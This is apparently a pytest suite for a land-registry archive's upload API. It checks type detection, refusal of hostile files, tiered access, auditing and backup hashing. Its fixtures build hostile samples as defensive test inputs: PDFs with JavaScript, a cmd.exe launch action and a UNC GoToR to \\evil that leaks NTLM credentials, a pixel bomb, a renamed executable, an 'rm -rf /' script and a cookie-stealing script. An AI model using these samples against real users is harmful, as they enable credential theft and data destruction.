"""The registration archive over real HTTP and real PostGIS: the type is decided from the bytes,
hostile files are refused with a stable reason, each tier sees what domain.md says, every view
is audited, and a backup carries the files back with every hash checked."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from harness import PEOPLE
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from portal.accounts.principal import Account
from portal.app import create_app
from portal.archive.store import digest
from portal.platform.db import with_database
from portal.platform.permissions import Role
from portal.settings import ArchiveSettings, DatabaseSettings, Settings


def png(width: int = 120, height: int = 80, colour: str = "white") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(out, "PNG")
    return out.getvalue()


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (300, 200), "grey").save(out, "JPEG")
    return out.getvalue()


def tiff(pages: int = 3) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("L", (400 + 10 * i, 300), 40 * i) for i in range(pages)]
    frames[0].save(out, "TIFF", save_all=True, append_images=frames[1:], compression="tiff_deflate")
    return out.getvalue()


def pdf(pages: int = 2, hostile: str | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if hostile == "javascript":
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1);")})
    elif hostile == "embedded":
        writer.add_attachment("payload.exe", b"MZ...")
    elif hostile == "launch":
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    elif hostile == "encrypted":
        writer.encrypt("secret")
    elif hostile == "gotor":  # a remote go-to: a UNC path makes Windows readers send NTLM credentials
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): TextStringObject("\\\\evil\\share\\x.pdf"),
            NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")])})
    elif hostile == "uri":  # a link annotation opening a web address
        writer.add_annotation(0, DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(99), NumberObject(99)]),
            NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/URI"),
                                                NameObject("/URI"): TextStringObject("https://evil.example/")})}))
    elif hostile == "page_open":  # a page's additional action playing a rendition
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject({
            NameObject("/S"): NameObject("/Rendition"), NameObject("/OP"): NumberObject(0)})})
    elif hostile == "xfa":
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
            NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp:xdp/>")})
    elif hostile == "goto":  # an internal go-to: accepted
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/GoTo"),
            NameObject("/D"): ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pixel_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A 1-bit PNG whose header claims 10 billion pixels, with almost nothing after it."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
            + chunk(b"IEND", b""))


RENAMED_EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"DOS mode"


@pytest.fixture(scope="module")
def owner(module_database: str) -> dict[str, int]:
    """A party holding a current right, the right's source, and a party holding none."""
    with psycopg.connect(module_database) as conn:
        party_id, source_id = conn.execute(
            "SELECT h.party_id, r.source_id FROM right_holders h JOIN rights r ON r.version_id = h.right_version_id "
            "AND r.end_lifespan IS NULL ORDER BY r.right_id LIMIT 1").fetchone()
        stranger = conn.execute(
            "SELECT party_id FROM current_parties p WHERE NOT EXISTS (SELECT 1 FROM right_holders h "
            "WHERE h.party_id = p.party_id) ORDER BY party_id LIMIT 1").fetchone()
        court = conn.execute("INSERT INTO sources (kind, reference, issuer) VALUES ('court_order', "
                             "'(2026)浙0102执保1号', '杭州市上城区人民法院') RETURNING source_id").fetchone()[0]
        conn.commit()
    return {"party_id": party_id, "source_id": source_id, "stranger": stranger[0] if stranger else 10**9,
            "court_source_id": court}


@pytest.fixture(scope="module")
def store_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("archive-store")


@pytest.fixture(scope="module")
def client(module_database: str, owner: dict[str, int], store_dir: Path) -> Iterator[TestClient]:
    people = {**PEOPLE,
              "owner": Account(51, "业主", frozenset({Role.VERIFIED_USER}), party_id=owner["party_id"], verified=True),
              "stranger": Account(52, "路人", frozenset({Role.VERIFIED_USER}), party_id=owner["stranger"],
                                  verified=True)}

    async def resolver(request):  # type: ignore[no-untyped-def]
        from portal.platform.permissions import Principal

        return people.get(request.headers.get("x-test-person", ""), Principal())

    settings = Settings(database=DatabaseSettings(DATABASE_URL=module_database),
                        archive=ArchiveSettings(store_dir=store_dir, cache_dir=store_dir.parent / "cache",
                                                render_wait_seconds=0.3))
    app = create_app(settings)
    app.state.principal_resolver = resolver
    with TestClient(app) as test_client:
        yield test_client


def as_(person: str) -> dict[str, str]:
    return {"x-test-person": person}


def attach(client: TestClient, source_id: int, content: bytes, name: str = "scan.pdf", person: str = "registrar"):  # type: ignore[no-untyped-def]
    return client.post(f"/api/sources/{source_id}/files", files={"file": (name, content)}, headers=as_(person))


def archive_rows(url: str) -> int:
    with psycopg.connect(url) as conn:
        return int(conn.execute("SELECT (SELECT count(*) FROM archive_files) + (SELECT count(*) FROM source_files)")
                   .fetchone()[0])


@pytest.mark.parametrize(("content", "name", "media_type", "pages"), [
    (png(), "drawing.png", "image/png", 1),
    (jpeg(), "deed.jpeg", "image/jpeg", 1),
    (tiff(3), "sheet.tif", "image/tiff", 3),
    (pdf(2), "order.pdf", "application/pdf", 2),
    (png(colour="red"), "named-like-a.pdf", "image/png", 1),  # the name says PDF, the bytes PNG
    (pdf(1, "goto"), "opens-at-page-1.pdf", "application/pdf", 1),  # an internal go-to is harmless
    (b"\xef\xbb\xbf\r\n" + pdf(1), "bom.pdf", "application/pdf", 1),  # only whitespace or a BOM before %PDF-
])
def test_the_type_is_decided_from_the_bytes(client, owner, content, name, media_type, pages) -> None:  # type: ignore[no-untyped-def]
    answer = attach(client, owner["source_id"], content, name)
    assert answer.status_code == 201, answer.text
    body = answer.json()
    assert (body["media_type"], body["pages"], body["sha256"]) == (media_type, pages, digest(content))
    assert body["file_name"] == name


@pytest.mark.parametrize(("content", "reason"), [
    (RENAMED_EXECUTABLE, "executable"),
    (b"#!/bin/sh\nrm -rf /\n", "executable"),
    (pixel_bomb(), "pixel_limit"),
    (pdf(1, "javascript"), "pdf_javascript"),
    (pdf(1, "launch"), "pdf_launch_action"),
    (pdf(1, "embedded"), "pdf_embedded_file"),
    (pdf(1, "encrypted"), "pdf_encrypted"),
    (pdf(1, "gotor"), "pdf_action"),
    (pdf(1, "uri"), "pdf_action"),
    (pdf(1, "page_open"), "pdf_action"),
    (pdf(1, "xfa"), "pdf_xfa"),
    (b"<html><script>alert(document.cookie)</script>" + pdf(1), "pdf_header"),
    (b"PK\x03\x04 not a scan", "unsupported_type"),
    (b"%PDF-1.7\n garbage that no parser accepts", "unreadable"),
    (b"\x89PNG\r\n\x1a\n truncated", "unreadable"),
])
def test_hostile_files_are_refused_with_a_stable_reason_and_change_nothing(client, module_database, owner, content,
                                                                           reason) -> None:  # type: ignore[no-untyped-def]
    before = archive_rows(module_database)
    answer = attach(client, owner["source_id"], content, "scan.pdf")
    assert answer.status_code == 422, answer.text
    detail = answer.json()["detail"]
    assert (detail["code"], detail["reason"], detail["file"]) == ("file_refused", reason, "scan.pdf")
    assert detail["message"].startswith("scan.pdf: ")
    assert "/tmp" not in answer.text and "cadastre-archive-" not in answer.text  # no server path, ever
    assert archive_rows(module_database) == before


def test_the_pixel_limit_message_names_one_limit(client, owner) -> None:  # type: ignore[no-untyped-def]
    detail = attach(client, owner["source_id"], pixel_bomb(), "bomb.png").json()["detail"]
    limit = client.app.state.settings.archive.max_pixels if hasattr(client.app.state, "settings") else None
    numbers = {n.replace(",", "") for n in __import__("re").findall(r"\d[\d,]{3,}", detail["message"])}
    assert len(numbers) == 1, detail["message"]
    assert limit is None or numbers == {str(limit)}


def test_every_refusal_reason_is_translated() -> None:
    import json

    from portal.archive import inspect

    reasons = {line.split()[0] for line in inspect.__doc__.split("\n") if line.startswith("    ") and line.split()}
    reasons |= {"empty", "file_size_limit", "submission_closed"}
    for language in ("en", "zh-CN"):
        catalogue = json.loads((Path(inspect.__file__).parents[1] / "web" / "locales" / f"{language}.json").read_text())
        assert {f"archive.refusal.{r}" for r in reasons} <= catalogue.keys(), language
        assert {"error.file_refused", "error.archive_not_found"} <= catalogue.keys()


def test_only_a_registrar_attaches_to_a_source(client, owner) -> None:  # type: ignore[no-untyped-def]
    assert attach(client, owner["source_id"], png(), person="surveyor").status_code == 403
    assert client.post(f"/api/sources/{owner['source_id']}/files", files={"file": ("a.png", png())}).status_code == 401
    assert attach(client, 10**12, png()).status_code == 404


def test_at_intake_files_go_to_the_applications_source(client, module_database) -> None:  # type: ignore[no-untyped-def]
    with psycopg.connect(module_database) as conn:
        unit = conn.execute("SELECT unit_number FROM current_units ORDER BY unit_id LIMIT 1").fetchone()[0]
    seizure = {"kind": "seizure", "unit_number": unit, "applicant": "杭州市上城区人民法院",
               "request": {"court": "杭州市上城区人民法院", "document_number": "(2026)浙0102执8801号"},
               "sources": [{"kind": "court_order", "reference": "(2026)浙0102执8801号",
                            "issuer": "杭州市上城区人民法院"}]}
    made = client.post("/api/applications", json=seizure, headers=as_("clerk"))
    assert made.status_code == 201, made.text
    application_id = made.json()["id"]
    with psycopg.connect(module_database) as conn:
        source_id = conn.execute("SELECT min(source_id) FROM application_sources WHERE application_id = %s",
                                 (application_id,)).fetchone()[0]
    received_by = PEOPLE["clerk"].user_id
    order = png(48, 48, "orange")
    by_clerk = client.post(f"/api/applications/{application_id}/files", files={"file": ("order.png", order)},
                           headers=as_("clerk"))
    assert by_clerk.status_code == 201, by_clerk.text
    assert client.get(f"/api/archive/{digest(order)}/pages/1.png", headers=as_("clerk-2")).status_code == 200
    content = png(64, 64, "purple")
    answer = client.post(f"/api/applications/{application_id}/files", files={"file": ("contract.png", content)},
                         headers=as_("registrar"))
    assert answer.status_code == 201, answer.text
    listed = client.get(f"/api/sources/{source_id}/files", headers=as_("registrar")).json()
    assert digest(content) in {f["sha256"] for f in listed}
    # A clerk who did not receive it may not; nor may anyone attach to a source of no application.
    assert received_by != PEOPLE["clerk-2"].user_id
    refused = client.post(f"/api/applications/{application_id}/files", files={"file": ("x.png", content)},
                          headers=as_("clerk-2"))
    assert refused.status_code == 404
    assert client.post(f"/api/sources/{source_id}/files", files={"file": ("x.png", content)},
                       headers=as_("clerk")).status_code == 403
    assert client.post(f"/api/applications/{application_id}/files?source_id=999999999",
                       files={"file": ("x.png", content)}, headers=as_("registrar")).status_code == 404


def audit_count(url: str, sha256: str, action: str = "archive.view", outcome: str = "success") -> int:
    with psycopg.connect(url) as conn:
        return int(conn.execute("SELECT count(*) FROM audit_log WHERE action = %s AND subject = %s AND outcome = %s",
                                (action, f"file:{sha256}", outcome)).fetchone()[0])


def test_tiers_see_what_the_disclosure_table_says_and_every_view_is_audited(client, module_database,
                                                                            owner) -> None:  # type: ignore[no-untyped-def]
    deed = attach(client, owner["source_id"], png(640, 480, "blue"), "deed.png").json()["sha256"]
    order = attach(client, owner["court_source_id"], pdf(1), "order.pdf").json()["sha256"]
    expected = {  # person: (sees the deed of the owner's right, sees the court order)
        "registrar": (True, True), "clerk": (False, True), "owner": (True, False),
        "stranger": (False, False), "citizen": (False, False), "surveyor": (False, False),
    }
    for person, (sees_deed, sees_order) in expected.items():
        for sha256, sees in ((deed, sees_deed), (order, sees_order)):
            views, denials = audit_count(module_database, sha256), audit_count(module_database, sha256,
                                                                               outcome="refused")
            answer = client.get(f"/api/archive/{sha256}/pages/1.png", headers=as_(person))
            if sees:
                assert answer.status_code == 200, (person, answer.text)
                assert answer.headers["content-type"] == "image/png"
                assert Image.open(io.BytesIO(answer.content)).format == "PNG"
                assert audit_count(module_database, sha256) == views + 1, person
            else:
                assert answer.status_code == 404, (person, answer.text)
                assert audit_count(module_database, sha256, outcome="refused") == denials + 1, person
    for sha256 in (deed, order):  # the public sees none
        assert client.get(f"/api/archive/{sha256}/pages/1.png").status_code == 401
        assert client.get(f"/api/archive/{sha256}").status_code == 401
    listed = client.get(f"/api/sources/{owner['source_id']}/files", headers=as_("owner"))
    assert listed.status_code == 200 and deed in {f["sha256"] for f in listed.json()}
    assert client.get(f"/api/sources/{owner['court_source_id']}/files", headers=as_("owner")).status_code == 404
    assert client.get(f"/api/sources/{owner['court_source_id']}/files", headers=as_("clerk")).status_code == 200


def test_a_viewer_sees_only_the_attachments_they_may_see(client, owner) -> None:  # type: ignore[no-untyped-def]
    """One file attached to the owner's source and to a court order: each tier lists only the
    attachments it may see, in the API and in the page viewer (no other source's id or file name)."""
    content = png(333, 222, "purple")
    sha256 = attach(client, owner["source_id"], content, "owner-deed.png").json()["sha256"]
    attach(client, owner["court_source_id"], content, "sealed-court-order.png")
    expected = {"registrar": {owner["source_id"], owner["court_source_id"]}, "owner": {owner["source_id"]},
                "clerk": {owner["court_source_id"]}}
    for person, sources in expected.items():
        answer = client.get(f"/api/archive/{sha256}", headers=as_(person))
        assert answer.status_code == 200, (person, answer.text)
        assert {a["id"] for a in answer.json()["attached_to"] if a["kind"] == "source"} == sources, person
        page = client.get(f"/archive/{sha256}", headers=as_(person))
        assert page.status_code == 200, (person, page.text)
        assert ("sealed-court-order.png" in page.text) == (owner["court_source_id"] in sources), person
        assert ("owner-deed.png" in page.text) == (owner["source_id"] in sources), person


def test_one_user_cannot_hold_every_worker_with_scans(client, owner) -> None:  # type: ignore[no-untyped-def]
    """Attaching and rendering count against the same per-user limit as survey uploads (two at
    once by default): with the registrar's two slots held (two uploads still being read), a third
    is refused with 429 uploads_at_once and Retry-After, and a page render waits, then is refused;
    another user is not held up, and a freed slot serves the next."""
    from types import SimpleNamespace

    from portal.platform.slots import slots_of

    slots = slots_of(SimpleNamespace(app=client.app))
    limit = client.app.state.settings.survey.uploads_at_once_per_user
    sha256 = attach(client, owner["source_id"], png(90, 60, "olive"), "held.png").json()["sha256"]
    registrar = str(PEOPLE["registrar"].user_id)
    held = [slots.slot(registrar, limit) for _ in range(limit)]
    for slot in held:
        slot.__enter__()
    try:
        refused = attach(client, owner["source_id"], png(91, 60, "olive"), "third.png")
        assert refused.status_code == 429, refused.text
        assert refused.json()["detail"]["code"] == "uploads_at_once" and refused.headers["retry-after"] == "5"
        render = client.get(f"/api/archive/{sha256}/pages/1.png?size=thumb", headers=as_("registrar"))
        assert render.status_code == 429 and render.json()["detail"]["code"] == "uploads_at_once"
        assert "uploads at once per user" in render.json()["detail"]["message"]
        other = client.get(f"/api/archive/{sha256}/pages/1.png", headers=as_("owner"))
        assert other.status_code == 200, other.text
    finally:
        for slot in held:
            slot.__exit__(None, None, None)
    assert attach(client, owner["source_id"], png(91, 60, "olive"), "third.png").status_code == 201
    assert client.get(f"/api/archive/{sha256}/pages/1.png?size=thumb", headers=as_("registrar")).status_code == 200


def test_pages_thumbnails_and_the_original(client, module_database, owner) -> None:  # type: ignore[no-untyped-def]
    content = tiff(3)
    sha256 = attach(client, owner["source_id"], content, "sheets.tif").json()["sha256"]
    thumb = client.get(f"/api/archive/{sha256}/pages/2.png?size=thumb", headers=as_("registrar"))
    assert thumb.status_code == 200
    assert max(Image.open(io.BytesIO(thumb.content)).size) <= 256
    again = client.get(f"/api/archive/{sha256}/pages/2.png?size=thumb", headers=as_("registrar"))
    assert again.content == thumb.content  # from the cache, and audited all the same
    assert audit_count(module_database, sha256) >= 2
    assert client.get(f"/api/archive/{sha256}/pages/4.png", headers=as_("registrar")).status_code == 404
    assert client.get(f"/api/archive/{sha256}/pages/1.png?size=huge", headers=as_("registrar")).status_code == 422
    assert client.get("/api/archive/not-a-hash/pages/1.png", headers=as_("registrar")).status_code in (404, 422)
    original = client.get(f"/api/archive/{sha256}/original", headers=as_("registrar"))
    assert original.status_code == 200 and original.content == content
    assert original.headers["content-type"] == "image/tiff"
    assert audit_count(module_database, sha256, "archive.download") == 1
    facts = client.get(f"/api/archive/{sha256}", headers=as_("registrar")).json()
    assert (facts["pages"], facts["width"], facts["height"]) == (3, 400, 300)
    assert facts["attached_to"][0]["kind"] == "source"


def test_archive_rows_are_never_changed_or_deleted(client, module_database, owner) -> None:  # type: ignore[no-untyped-def]
    attach(client, owner["source_id"], png(10, 10), "tiny.png")
    with psycopg.connect(module_database) as conn:
        for statement in ("UPDATE archive_files SET pages = 2", "DELETE FROM source_files",
                          "TRUNCATE archive_files CASCADE"):
            with pytest.raises(psycopg.errors.RestrictViolation):
                conn.execute(statement)
            conn.rollback()


def test_a_surveyor_attaches_to_their_submission_and_it_becomes_the_sources_file(client, module_database) -> None:  # type: ignore[no-untyped-def]
    with psycopg.connect(module_database) as conn:
        submission_id = conn.execute(
            "INSERT INTO submissions (file_name, file_format, file_sha256, file_content, crs, report, error_count, "
            "warning_count, created_by, created_by_name) VALUES ('a.txt', 'exchange', repeat('0', 64), '', 4528, "
            "'{}', 0, 0, %s, %s) RETURNING submission_id", (PEOPLE["surveyor"].user_id, "张测绘")).fetchone()[0]
        conn.commit()
    content = png(200, 100, "green")
    answer = client.post(f"/api/submissions/{submission_id}/files", files={"file": ("zdt.png", content)},
                         headers=as_("surveyor"))
    assert answer.status_code == 201, answer.text
    other = client.post(f"/api/submissions/{submission_id}/files", files={"file": ("zdt.png", content)},
                        headers=as_("other-surveyor"))
    assert other.status_code == 404
    sha256 = digest(content)
    assert client.get(f"/api/archive/{sha256}/pages/1.png", headers=as_("surveyor")).status_code == 200
    assert client.get(f"/api/archive/{sha256}/pages/1.png", headers=as_("other-surveyor")).status_code == 404
    listed = client.get(f"/api/submissions/{submission_id}/files", headers=as_("surveyor")).json()
    assert [f["sha256"] for f in listed] == [sha256]


def test_backup_and_restore_carry_the_files_and_check_every_hash(client, module_database, server_url, owner,
                                                                 store_dir, tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from portal.cli import main

    kept = [attach(client, owner["source_id"], c, n).json()["sha256"]
            for c, n in ((png(33, 44, "yellow"), "a.png"), (pdf(3), "b.pdf"))]
    name = "cadastre_restore_" + tmp_path.name[-8:].replace("-", "_").lower()
    target = with_database(server_url, name)
    monkeypatch.setenv("DATABASE_URL", module_database)
    monkeypatch.setenv("CADASTRE_ARCHIVE_STORE_DIR", str(store_dir))
    dump = tmp_path / "cadastre.dump"
    try:
        made = CliRunner().invoke(main, ["backup", str(dump)])
        assert made.exit_code == 0, made.output
        copies = {p.name for p in (tmp_path / "cadastre.dump.files").glob("??/??/*")}
        assert set(kept) <= copies
        assert all(digest(p.read_bytes()) == p.name for p in (tmp_path / "cadastre.dump.files").glob("??/??/*"))

        # Into an empty store: every file comes back, checked.
        restored_store = tmp_path / "restored-store"
        monkeypatch.setenv("CADASTRE_ARCHIVE_STORE_DIR", str(restored_store))
        restored = CliRunner().invoke(main, ["restore", str(dump), "--into", name])
        assert restored.exit_code == 0, restored.output
        with psycopg.connect(target) as conn:
            names = {row[0] for row in conn.execute("SELECT sha256 FROM archive_files")}
        assert set(kept) <= names
        for sha256 in names:
            data = (restored_store / sha256[:2] / sha256[2:4] / sha256).read_bytes()
            assert digest(data) == sha256

        # A damaged backup is refused before anything is restored.
        victim = next((tmp_path / "cadastre.dump.files").glob("??/??/*"))
        victim.chmod(0o644)
        victim.write_bytes(victim.read_bytes() + b"tampered")
        damaged = CliRunner().invoke(main, ["restore", str(dump), "--into", name + "_2"])
        assert damaged.exit_code != 0 and "does not give its hash" in damaged.output
        with psycopg.connect(server_url) as conn:
            assert conn.execute("SELECT 1 FROM pg_database WHERE datname = %s", (name + "_2",)).fetchone() is None
    finally:
        with psycopg.connect(server_url, autocommit=True) as conn:
            conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
            conn.execute(f'DROP DATABASE IF EXISTS "{name}_2" WITH (FORCE)')


def test_the_page_viewer_shows_thumbnails_in_both_languages_and_is_audited(client, module_database, owner) -> None:  # type: ignore[no-untyped-def]
    content = tiff(2)
    sha256 = attach(client, owner["source_id"], content, "two-pages.tif").json()["sha256"]
    before = audit_count(module_database, sha256, "archive.describe")
    zh = client.get(f"/archive/{sha256}?page=2", headers={**as_("registrar"), "accept-language": "zh-CN"})
    assert zh.status_code == 200 and "第 2 页，共 2 页" in zh.text
    assert f"/api/archive/{sha256}/pages/1.png?size=thumb" in zh.text
    assert f"/api/archive/{sha256}/pages/2.png" in zh.text
    en = client.get(f"/archive/{sha256}", headers={**as_("registrar"), "accept-language": "en"})
    assert "Page 1 of 2" in en.text and "source document" in en.text
    assert audit_count(module_database, sha256, "archive.describe") == before + 2
    assert client.get(f"/archive/{sha256}", headers=as_("surveyor")).status_code == 404
    assert client.get(f"/archive/{sha256}", follow_redirects=False).status_code == 303
